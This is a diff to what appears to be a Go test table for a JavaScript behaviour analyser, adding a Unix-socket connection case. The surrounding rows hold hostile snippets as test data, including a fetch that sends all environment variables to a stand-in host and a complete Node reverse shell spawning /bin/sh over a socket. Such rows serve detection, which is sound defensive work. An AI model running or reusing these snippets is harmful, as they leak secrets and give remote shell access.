@@ -107,6 +107,7 @@ var javaScriptRows = []struct{ code, want string }{
 	{"fetch('http://x.example',{method:'POST',body:JSON.stringify(process.env)})", "secret connect:http://x.example leak"},
 	{"require('https').get('https://x.example/a',r=>r.pipe(fs.createWriteStream('a')))", "write:a fetch:https://x.example/a"},
 	{"require('net').connect(4444,'10.0.0.1')", "fetch:10.0.0.1"},
+	{"require('net').createConnection('/tmp/'+'a')", "socket:/tmp/a"},
 	{"const s=require('net').connect(4444,'h');const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)",
 		"fetch:h run:/bin/sh reverse-shell"},
 	// not seen through
